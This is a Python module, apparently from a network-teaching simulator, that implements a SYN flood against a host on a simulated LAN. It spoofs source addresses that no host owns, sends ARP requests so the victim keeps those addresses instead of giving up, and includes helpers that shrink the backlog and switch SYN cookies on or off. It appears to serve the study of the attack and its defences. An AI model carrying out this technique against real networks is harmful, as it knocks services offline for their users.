"""A flood of SYNs: each takes a place in the queue of half-open connections, and nobody ever sends the third segment.

Who is said to call must be silent: a host that is there would answer the SYN,ACK with a RST, and give the place back.
So the SYNs come from addresses of the LAN that no host can have; RFC 4987 has the attack, and what helps.
"""

import random

from chatkit.lan.attacks.aim import host_of, number_in
from chatkit.lan.attacks.frames import ARP_REQUEST, arp, segment
from chatkit.lan.attacks.kernel import tell_kernel
from chatkit.lan.attacks.reset import MOST_SEQ
from chatkit.lan.host import PORTS, Address
from chatkit.lan.lan import Lan
from chatkit.lan.plan import MOST_HOSTS

MOST_SYNS = 256
MADE_UP = tuple(f"10.0.0.{number}" for number in range(MOST_HOSTS + 1, 255))
LEAST_PLACES, MOST_PLACES = 8, 1024

_FIRST_PORT = 20000


def narrow_door(lan: Lan, name: str, places: int, *, syn_cookies: bool) -> None:
    """Let every port of this host that is opened from now on have so few places for who calls, and cookies or none.

    Without cookies Linux keeps a quarter of the places for those that it knows. Raises MisuseError, LanError.
    """
    number_in(LEAST_PLACES, MOST_PLACES, places, "places")
    sizes = dict.fromkeys(("core/somaxconn", "ipv4/tcp_max_syn_backlog"), places)
    tell_kernel(host_of(lan, name), sizes | {"ipv4/tcp_syncookies": int(syn_cookies)})


def set_syn_cookies(lan: Lan, name: str, on: bool) -> None:
    """Let this host answer with cookies, or not, when its queue is full. Raises MisuseError, LanError."""
    tell_kernel(host_of(lan, name), {"ipv4/tcp_syncookies": int(on)})


def flood_syns(lan: Lan, target: Address, count: int = 64, *, sent_by: str = "eve") -> None:
    """Send so many SYNs to this port, each from a port of its own at an address that is nobody's, and end.

    Raises MisuseError, and LanError where the LAN has ended.
    """
    liar, victim = host_of(lan, sent_by), host_of(lan, target[0])
    number_in(1, PORTS - 1, target[1], "port")
    number_in(1, MOST_SYNS, count, "SYNs")
    for address in MADE_UP:  # else the victim would ask who that is, hear nothing, and give up early
        lan.wire.inject(arp(liar, victim, ARP_REQUEST, address, victim.address), sent_by=liar.name)
    port = random.randrange(_FIRST_PORT, PORTS - MOST_SYNS)  # another flood has other callers
    for number in range(count):
        caller = MADE_UP[number % len(MADE_UP)], port + number
        frame = segment(liar, victim, caller, target[1], random.randint(0, MOST_SEQ), "SYN")
        lan.wire.inject(frame, sent_by=liar.name)
